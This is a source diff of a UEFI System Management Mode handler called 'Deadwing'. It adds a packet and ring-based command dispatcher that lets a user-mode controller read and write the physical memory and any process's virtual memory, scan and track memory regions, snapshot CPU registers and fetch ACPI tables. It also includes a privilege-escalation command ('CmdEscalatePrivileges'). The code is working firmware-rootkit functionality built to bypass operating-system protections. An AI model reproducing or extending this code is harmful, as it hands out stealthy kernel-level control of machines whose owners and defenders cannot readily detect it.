+		Chunk = MIN(Chunk, EFI_PAGE_SIZE - (((UINT64)Buffer + Offset) & EFI_PAGE_MASK));
+
+		Status = CmdCopyChunk(Cpu, (UINT64)Buffer + Offset, gLiveSession.UmController.UmControllerDirBase, Table->Address + Offset, CMD_FIRMWARE_DIR_BASE, (UINT32)Chunk);
+		if(EFI_ERROR(Status))
+			return Status;
+
+		Offset += Chunk;
+	}
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Returns size of the payload which the command expects
+ * 
+ * \param Command Magic value of the command
+ * 
+ * \returns Size of the payload, 0 if command has no payload or it's unknown
+ */
+UINTN
+EFIAPI
+CmdPayloadSize(
+	IN UINT32 Command
+) {
+	switch(Command) {
+		case CMD_DEADWING_READ_PHYS:
+		case CMD_DEADWING_READ_VIRTUAL:
+			return sizeof(DEADWING_READ_PAYLOAD);
+		case CMD_DEADWING_WRITE_PHYS:
+		case CMD_DEADWING_WRITE_VIRTUAL:
+			return sizeof(DEADWING_WRITE_PAYLOAD);
+		case CMD_DEADWING_CACHE_SESSION_INFO:
+			return sizeof(DEADWING_CACHE_PAYLOAD);
+		case CMD_DEADWING_VIRT_TO_PHYS:
+			return sizeof(DEADWING_VTOP_PAYLOAD);
+		case CMD_DEADWING_HASH_RANGES:
+			return sizeof(DEADWING_HASH_PAYLOAD);
+		case CMD_DEADWING_SCAN:
+			return sizeof(DEADWING_SCAN_PAYLOAD);
+		case CMD_DEADWING_SPARSE_READ:
+			return sizeof(DEADWING_SPARSE_PAYLOAD);
+		case CMD_DEADWING_TRACK_REGION:
+			return sizeof(DEADWING_TRACK_PAYLOAD);
+		case CMD_DEADWING_CHANGES_SINCE:
+			return sizeof(DEADWING_CHANGES_PAYLOAD);
+		case CMD_DEADWING_HARVEST_AD:
+			return sizeof(DEADWING_HARVEST_PAYLOAD);
+		case CMD_DEADWING_MONITOR_START:
+			return sizeof(DEADWING_MONITOR_START_PAYLOAD);
+		case CMD_DEADWING_MONITOR_SAMPLE:
+			return sizeof(DEADWING_MONITOR_SAMPLE_PAYLOAD);
+		case CMD_DEADWING_ENTROPY_MAP:
+			return sizeof(DEADWING_ENTROPY_PAYLOAD);
+		case CMD_DEADWING_DRAIN_LOG:
+		case CMD_DEADWING_DRAIN_TRACE:
+		case CMD_DEADWING_DRAIN_PROFILE:
+			return sizeof(DEADWING_DRAIN_PAYLOAD);
+		case CMD_DEADWING_GET_STATS:
+			return sizeof(DEADWING_STATS_PAYLOAD);
+		case CMD_DEADWING_PROFILE_SAMPLE:
+			return sizeof(DEADWING_PROFILE_PAYLOAD);
+		case CMD_DEADWING_SNAPSHOT_REGISTERS:
+			return sizeof(DEADWING_REGISTERS_PAYLOAD);
+		case CMD_DEADWING_DRAIN_RING:
+			return sizeof(DEADWING_RING_PAYLOAD);
+		case CMD_DEADWING_REGISTER_DOORBELL:
+			return sizeof(DEADWING_DOORBELL_PAYLOAD);
+		case CMD_DEADWING_SET_MEMORY_MAP:
+			return sizeof(DEADWING_SET_MEMORY_MAP_PAYLOAD);
+		case CMD_DEADWING_GET_MEMORY_MAP:
+			return sizeof(DEADWING_MEMORY_MAP_PAYLOAD);
+		case CMD_DEADWING_SET_RSDP:
+			return sizeof(DEADWING_RSDP_PAYLOAD);
+		case CMD_DEADWING_GET_ACPI_TABLE:
+			return sizeof(DEADWING_ACPI_PAYLOAD);
+		default:
+			return 0;
+	}
+}
+
+/**
+ * \brief Forms command queued in the submission ring. Only reads, writes,
+ * translation and ping can be queued, other commands need their own packet
+ * 
+ * \param Entry   Command from the submission ring
+ * \param Command Receives command with its payload
+ * 
+ * \return EFI_SUCCESS - Command has been formed
+ * \return EFI_UNSUPPORTED - Command can't be queued in the ring
+ */
+EFI_STATUS
+EFIAPI
+CmdFormRingCommand(
+	IN  PDEADWING_RING_SUBMISSION Entry,
+	OUT PDEADWING_RING_COMMAND    Command
+) {
+	ZeroMem(Command, sizeof(DEADWING_RING_COMMAND));
+
+	Command->Header.Command = Entry->Command;
+	Command->Header.Status = EFI_NOT_READY;
+	Command->Header.Resume.Cursor = Entry->Cursor;
+
+	switch(Entry->Command) {
+		case CMD_DEADWING_PING_SMI:
+		break;
+		case CMD_DEADWING_READ_PHYS:
+		case CMD_DEADWING_READ_VIRTUAL:
+			Command->Payload.Read.ProcessId = Entry->ProcessId;
+			Command->Payload.Read.Address = (VOID *)Entry->Args[0];
+			Command->Payload.Read.Buffer = (VOID *)Entry->Args[1];
+			Command->Payload.Read.Length = Entry->Args[2];
+		break;
+		case CMD_DEADWING_WRITE_PHYS:
+		case CMD_DEADWING_WRITE_VIRTUAL:
+			Command->Payload.Write.ProcessId = Entry->ProcessId;
+			Command->Payload.Write.Address = (VOID *)Entry->Args[0];
+			Command->Payload.Write.Buffer = (VOID *)Entry->Args[1];
+			Command->Payload.Write.Length = Entry->Args[2];
+		break;
+		case CMD_DEADWING_VIRT_TO_PHYS:
+			Command->Payload.Vtop.ProcessId = Entry->ProcessId;
+			Command->Payload.Vtop.Address = (VOID *)Entry->Args[0];
+		break;
+		default:
+			return EFI_UNSUPPORTED;
+	}
+
+	Command->Header.Length = DEADWING_COMMAND_LENGTH(CmdPayloadSize(Entry->Command));
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Executes commands queued in the submission ring and posts their statuses to the completion ring.
+ * 
+ * Commands are executed until the submission ring is empty, completion ring is full or TSC budget
+ * of the SMI is exhausted. Partially performed command stays at the head of the ring with saved
+ * cursor and is resumed by the next drain
+ * 
+ * \param Address   Address of the rings
+ * \param Completed Receives count of completed commands
+ * 
+ * \return EFI_SUCCESS - Ring has been drained (probably, partially)
+ * \return EFI_INVALID_PARAMETER - Rings are absent or their layout doesn't match
+ * \return EFI_SECURITY_VIOLATION - Rings overlap SMRAM
+ * \return EFI_COMPROMISED_DATA - Indices of the rings are corrupted
+ */
+EFI_STATUS
+EFIAPI
+CmdDrainRing(
+	IN  VOID   *Address,
+	OUT UINT64 *Completed
+) {
+	*Completed = 0;
+
+	EFI_STATUS Status = RingValidate(Address);
+	if(EFI_ERROR(Status))
+		return Status;
+
+	PDEADWING_RING Ring = (PDEADWING_RING)Address;
+
+	while(TRUE) {
+		DEADWING_RING_SUBMISSION Entry;
+		Status = RingPeek(Ring, &Entry);
+		if(Status == EFI_COMPROMISED_DATA)
+			return Status;
+
+		// ring is empty or completions should be consumed first
+		if(EFI_ERROR(Status))
+			break;
+
+		DEADWING_RING_COMMAND Command;
+		Status = CmdFormRingCommand(&Entry, &Command);
+		if(!EFI_ERROR(Status))
+			Status = CmdDispatch(&Command.Header, sizeof(DEADWING_PAYLOAD), NULL, 0);
+
+		// budget is exhausted in the middle of the command
+		if(Status == EFI_NOT_READY) {
+			RingSaveCursor(Ring, Command.Header.Resume.Cursor);
+			break;
+		}
+
+		// only translation has a value
+		UINT64 Value = 0;
+		if(Entry.Command == CMD_DEADWING_VIRT_TO_PHYS && !EFI_ERROR(Status))
+			Value = (UINT64)Command.Payload.Vtop.Translated;
+
+		RingComplete(Ring, Entry.UserData, Status, Value);
+		(*Completed)++;
+
+		if(YieldBudgetExhausted())
+			break;
+	}
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Dispatches single command, budget of the SMI should be already armed
+ * 
+ * \param Command     Command with its payload
+ * \param PayloadSize Size of the payload which follows the header of the command
+ * \param InlineData  Inline data region which follows the packet or NULL
+ * \param InlineSize  Size of inline data region
+ * 
+ * \return EFI_SUCCESS - Command has been dispatched succesfully
+ * \return EFI_NOT_READY - Command has been partially performed and should be resumed
+ * \return EFI_BAD_BUFFER_SIZE - Payload is too small for the command
+ * \return Other - An error occured while command dispatching
+ */
+EFI_STATUS
+EFIAPI
+CmdDispatch(
+	IN PDEADWING_COMMAND  Command,
+	IN UINTN              PayloadSize,
+	IN VOID              *InlineData,
+	IN UINTN              InlineSize
+) {
+	EFI_STATUS Status;
+	VOID *VtopMem = NULL;
+
+	// payload should cover every field of the command
+	UINT32 Code = Command->Command;
+	if(PayloadSize < CmdPayloadSize(Code)) {
+		LOG_ERROR("[ SMM ] Payload of the command is truncated\r\n");
+		return EFI_BAD_BUFFER_SIZE;
+	}
+
+	PDEADWING_PAYLOAD Payload = DEADWING_COMMAND_PAYLOAD(Command);
+
+	// dispatch request
+	switch(Code) {
+		case CMD_DEADWING_PING_SMI:
+			LOG_INFO("[ SMM ] SMI handler is alive now\r\n");
+			Status = EFI_SUCCESS;
+		break;
+		case CMD_DEADWING_READ_PHYS:
+			Status = CmdPhysRead(Payload->Read.Address, Payload->Read.Buffer, Payload->Read.Length, InlineData, InlineSize, &Command->Resume.Cursor);
+			if(EFI_ERROR(Status) && Status != EFI_NOT_READY)
+				LOG_ERROR("[ SMM ] Unable to read from the physical memory\r\n");
+		break;
+		case CMD_DEADWING_WRITE_PHYS:
+			Status = CmdPhysWrite(Payload->Write.Address, Payload->Write.Buffer, Payload->Write.Length, &Command->Resume.Cursor);
+			if(EFI_ERROR(Status) && Status != EFI_NOT_READY)
+				LOG_ERROR("[ SMM ] Unable to write to the physical memory\r\n");
+		break;
+		case CMD_DEADWING_READ_VIRTUAL:
+			Status = CmdVirtualRead(Payload->Read.ProcessId, Payload->Read.Address, Payload->Read.Buffer, Payload->Read.Length, InlineData, InlineSize, &Command->Resume.Cursor);
+			if(EFI_ERROR(Status) && Status != EFI_NOT_READY)
+				LOG_ERROR("[ SMM ] Cannot read from provided virtual address\r\n");
+		break;
+		case CMD_DEADWING_WRITE_VIRTUAL:
+			Status = CmdVirtualWrite(Payload->Write.ProcessId, Payload->Write.Address, Payload->Write.Buffer, Payload->Write.Length, &Command->Resume.Cursor);
+			if(EFI_ERROR(Status) && Status != EFI_NOT_READY)
+				LOG_ERROR("[ SMM ] Cannot write data to provided virtual address\r\n");
 		break;
 		case CMD_DEADWING_CACHE_SESSION_INFO:
-			Status = CmdCacheSessionInfo(SmiCommCtx->Cache.ControllerProcessId, SmiCommCtx->Cache.VaPsInitialSysProcess, SmiCommCtx->Cache.DirBase);
+			Status = CmdCacheSessionInfo(Payload->Cache.ControllerProcessId, Payload->Cache.VaPsInitialSysProcess, Payload->Cache.DirBase);
 			if(EFI_ERROR(Status))
-				SerialPrint("[ SMM ] Unable to cache some kernel data\r\n");
+				LOG_ERROR("[ SMM ] Unable to cache some kernel data\r\n");
 		break;
 		case CMD_DEADWING_VIRT_TO_PHYS:
-			Status = CmdVirtToPhys(SmiCommCtx->Vtop.TargetPid, SmiCommCtx->Vtop.AddressToTranslate, &VtopMem);
+			Status = CmdVirtToPhys(Payload->Vtop.ProcessId, Payload->Vtop.Address, &VtopMem);
 			if(EFI_ERROR(Status))
-				SerialPrint("[ SMM ] Unable to translate virtual address to physical\r\n");
+				LOG_ERROR("[ SMM ] Unable to translate virtual address to physical\r\n");
 			
-			SmiCommCtx->Vtop.Translated = VtopMem;
+			Payload->Vtop.Translated = VtopMem;
 		break;
 		case CMD_DEADWING_PRIV_ESC:
 			Status = CmdEscalatePrivileges();
 			if(EFI_ERROR(Status))
-				SerialPrint("[ SMM ] Unable to leverage privileges\r\n");
+				LOG_ERROR("[ SMM ] Unable to leverage privileges\r\n");
+		break;
+		case CMD_DEADWING_HASH_RANGES:
+			Status = CmdHashRanges(Payload->Hash.Request, Payload->Hash.PageDigests, Payload->Hash.PageDigestsLength, &Command->Resume.Cursor, Command->Resume.State);
+			if(EFI_ERROR(Status) && Status != EFI_NOT_READY)
+				LOG_ERROR("[ SMM ] Unable to hash provided ranges\r\n");
+		break;
+		case CMD_DEADWING_SCAN:
+			Status = CmdScan(Payload->Scan.Request, Payload->Scan.Matches, Payload->Scan.MaxMatches, &Command->Resume.Cursor, Command->Resume.State, &Payload->Scan.MatchCount, &Payload->Scan.Truncated);
+			if(EFI_ERROR(Status) && Status != EFI_NOT_READY)
+				LOG_ERROR("[ SMM ] Unable to scan provided range\r\n");
+		break;
+		case CMD_DEADWING_SPARSE_READ:
+			Status = CmdSparseRead(Payload->Sparse.Request, &Command->Resume.Cursor, Command->Resume.State, &Payload->Sparse.DataPages);
+			if(EFI_ERROR(Status) && Status != EFI_NOT_READY)
+				LOG_ERROR("[ SMM ] Unable to read provided range\r\n");
+		break;
+		case CMD_DEADWING_TRACK_REGION:
+			Status = CmdTrackRegion(Payload->Track.ProcessId, Payload->Track.Address, Payload->Track.Length, &Command->Resume.Cursor, Command->Resume.State, &Payload->Track.Handle);
+			if(EFI_ERROR(Status) && Status != EFI_NOT_READY)
+				LOG_ERROR("[ SMM ] Unable to track provided range\r\n");
+		break;
+		case CMD_DEADWING_CHANGES_SINCE:
+			Status = CmdChangesSince(Payload->Changes.Request, &Command->Resume.Cursor, Command->Resume.State, &Payload->Changes.ChangeCount, &Payload->Changes.Truncated);
+			if(EFI_ERROR(Status) && Status != EFI_NOT_READY)
+				LOG_ERROR("[ SMM ] Unable to collect changes of the tracked range\r\n");
+		break;
+		case CMD_DEADWING_HARVEST_AD:
+			Status = CmdHarvestAccessDirty(Payload->Harvest.Request, &Command->Resume.Cursor, Command->Resume.State, &Payload->Harvest.PageCount, &Payload->Harvest.Cleared, &Payload->Harvest.Truncated);
+			if(EFI_ERROR(Status) && Status != EFI_NOT_READY)
+				LOG_ERROR("[ SMM ] Unable to harvest accessed and dirty bits\r\n");
+		break;
+		case CMD_DEADWING_MONITOR_START:
+			Status = CmdMonitorStart(Payload->MonitorStart.Request);
+			if(EFI_ERROR(Status))
+				LOG_ERROR("[ SMM ] Unable to start access monitor\r\n");
+		break;
+		case CMD_DEADWING_MONITOR_SAMPLE:
+			Status = CmdMonitorSample(Payload->MonitorSample.Heatmap, Payload->MonitorSample.MaxEntries, &Payload->MonitorSample.EntryCount, &Payload->MonitorSample.Samples, &Payload->MonitorSample.Aggregated);
+			if(EFI_ERROR(Status))
+				LOG_ERROR("[ SMM ] Unable to sample monitored regions\r\n");
+		break;
+		case CMD_DEADWING_ENTROPY_MAP:
+			Status = CmdEntropyMap(Payload->Entropy.Request, &Command->Resume.Cursor);
+			if(EFI_ERROR(Status) && Status != EFI_NOT_READY)
+				LOG_ERROR("[ SMM ] Unable to build entropy map\r\n");
+		break;
+		case CMD_DEADWING_DRAIN_LOG:
+			Status = CmdDrainJournal(LogGetJournal(), Payload->Drain.Records, Payload->Drain.MaxRecords, &Payload->Drain.RecordCount, &Payload->Drain.Dropped);
+			if(EFI_ERROR(Status))
+				LOG_ERROR("[ SMM ] Unable to drain log\r\n");
+		break;
+		case CMD_DEADWING_DRAIN_TRACE:
+			Status = CmdDrainJournal(TraceGetJournal(), Payload->Drain.Records, Payload->Drain.MaxRecords, &Payload->Drain.RecordCount, &Payload->Drain.Dropped);
+			if(EFI_ERROR(Status))
+				LOG_ERROR("[ SMM ] Unable to drain trace\r\n");
+		break;
+		case CMD_DEADWING_GET_STATS:
+			Status = CmdGetStats(Payload->Stats.Buffer, Payload->Stats.Reset);
+			if(EFI_ERROR(Status))
+				LOG_ERROR("[ SMM ] Unable to get stats\r\n");
+		break;
+		case CMD_DEADWING_PROFILE_SAMPLE:
+			Status = CmdProfileSample(&Payload->Profile.SampleCount);
+			if(EFI_ERROR(Status))
+				LOG_ERROR("[ SMM ] Unable to take profiler sample\r\n");
+		break;
+		case CMD_DEADWING_DRAIN_PROFILE:
+			Status = CmdDrainJournal(ProfileGetJournal(), Payload->Drain.Records, Payload->Drain.MaxRecords, &Payload->Drain.RecordCount, &Payload->Drain.Dropped);
+			if(EFI_ERROR(Status))
+				LOG_ERROR("[ SMM ] Unable to drain profile\r\n");
+		break;
+		case CMD_DEADWING_SNAPSHOT_REGISTERS:
+			Status = CmdSnapshotRegisters(Payload->Registers.Buffer, Payload->Registers.MaxCpus, &Payload->Registers.CpuCount);
+			if(EFI_ERROR(Status))
+				LOG_ERROR("[ SMM ] Unable to snapshot registers\r\n");
+		break;
+		case CMD_DEADWING_DRAIN_RING:
+			Status = CmdDrainRing(Payload->Ring.Address, &Payload->Ring.Completed);
+			if(EFI_ERROR(Status))
+				LOG_ERROR("[ SMM ] Unable to drain submission ring\r\n");
+		break;
+		case CMD_DEADWING_REGISTER_DOORBELL:
+			Status = SmiRegisterDoorbell(Payload->Doorbell.Channels, Payload->Doorbell.ChannelCount, Payload->Doorbell.ChannelSize, Payload->Doorbell.CommSize, &Payload->Doorbell.SwSmiValue);
+			if(EFI_ERROR(Status))
+				LOG_INFO("[ SMM ] Doorbell isn't registered\r\n");
+		break;
+		case CMD_DEADWING_SET_MEMORY_MAP:
+			Status = CmdSetMemoryMap(InlineData, InlineSize, Payload->SetMemoryMap.MapSize, Payload->SetMemoryMap.DescriptorSize, &Payload->SetMemoryMap.RangeCount);
+			if(EFI_ERROR(Status))
+				LOG_INFO("[ SMM ] Memory map isn't cached, physical reads aren't filtered\r\n");
+		break;
+		case CMD_DEADWING_GET_MEMORY_MAP:
+			Status = CmdGetMemoryMap(Payload->MemoryMap.Ranges, Payload->MemoryMap.MaxRanges, &Payload->MemoryMap.RangeCount);
+			if(EFI_ERROR(Status))
+				LOG_ERROR("[ SMM ] Unable to copy memory map\r\n");
+		break;
+		case CMD_DEADWING_SET_RSDP:
+			Status = CmdSetRsdp(Payload->Rsdp.Address);
+			if(EFI_ERROR(Status))
+				LOG_INFO("[ SMM ] RSDP isn't set, legacy BIOS area is scanned for it\r\n");
+		break;
+		case CMD_DEADWING_GET_ACPI_TABLE:
+			Status = CmdGetAcpiTable(&Payload->Acpi.Signature, Payload->Acpi.Instance, Payload->Acpi.Buffer, Payload->Acpi.MaxLength, &Payload->Acpi.Address, &Payload->Acpi.Length);
+			if(EFI_ERROR(Status))
+				LOG_ERROR("[ SMM ] Unable to copy ACPI table\r\n");
 		break;
 		default:
 			// handler received unknown command, skip it
-			SerialPrint("[ SMM ] SMI handler received unknown command\r\n");
+			LOG_ERROR("[ SMM ] SMI handler received unknown command\r\n");
 			Status = EFI_INVALID_PARAMETER;
 		break;
 	}
 
 	return Status;
 }
+
+/**
+ * \brief Main command handler
+ * 
+ * Arms TSC budget of the current SMI and dispatches commands of the packet in order. Commands
+ * completed by previous SMIs are skipped. Resumable commands keep their progress in the Resume
+ * block of the command and return EFI_NOT_READY if they should be continued by the next SMI,
+ * commands which follow it wait for the next SMI as well
+ * 
+ * \param Packet     Packet with commands
+ * \param PacketSize Size of the region which can be occupied by the packet
+ * \param InlineData Inline data region which follows the packet or NULL
+ * \param InlineSize Size of inline data region
+ * 
+ * \return EFI_SUCCESS - Commands have been dispatched, their statuses are in their headers
+ * \return EFI_NOT_READY - Some command hasn't been performed (completely) and packet should be resubmitted
+ * \return EFI_INVALID_PARAMETER - Packet has unknown signature
+ * \return EFI_BAD_BUFFER_SIZE - Packet or some of its commands crosses the bounds
+ */
+EFI_STATUS
+EFIAPI
+CmdMainHandler(
+	IN PDEADWING_PACKET  Packet,
+	IN UINTN             PacketSize,
+	IN VOID             *InlineData,
+	IN UINTN             InlineSize
+) {
+	if(Packet->Signature != DEADWING_PACKET_SIGNATURE) {
+		LOG_ERROR("[ SMM ] Packet has unknown signature\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	// packet lies in the OS memory, so its bounds are fetched once
+	UINT64 Length = Packet->Length;
+	UINT32 Count = Packet->Count;
+	if(Length < sizeof(DEADWING_PACKET) || Length > PacketSize) {
+		LOG_ERROR("[ SMM ] Packet crosses the communication buffer\r\n");
+		return EFI_BAD_BUFFER_SIZE;
+	}
+
+	// limit time which we can spend in SMM during this SMI
+	YieldArmBudget(Packet->TscBudget);
+
+	UINTN Offset = sizeof(DEADWING_PACKET);
+	for(UINT32 i = 0; i < Count; i++) {
+		if(Length - Offset < sizeof(DEADWING_COMMAND))
+			return EFI_BAD_BUFFER_SIZE;
+
+		PDEADWING_COMMAND Command = (PDEADWING_COMMAND)((UINT8 *)Packet + Offset);
+		UINT32 CommandLength = Command->Length;
+		if(CommandLength < sizeof(DEADWING_COMMAND) || CommandLength % DEADWING_COMMAND_ALIGNMENT != 0 || CommandLength > Length - Offset) {
+			LOG_ERROR("[ SMM ] Command crosses the packet\r\n");
+			return EFI_BAD_BUFFER_SIZE;
+		}
+
+		Offset += CommandLength;
+
+		// command has been completed by the previous SMI
+		if(Command->Status != EFI_NOT_READY)
+			continue;
+
+		Command->Status = CmdDispatch(Command, CommandLength - sizeof(DEADWING_COMMAND), InlineData, InlineSize);
+		if(Command->Status == EFI_NOT_READY)
+			return EFI_NOT_READY;
+
+		// rest of commands is performed by the next SMI
+		if(i + 1 < Count && YieldBudgetExhausted())
+			return EFI_NOT_READY;
+	}
+
+	return EFI_SUCCESS;
+}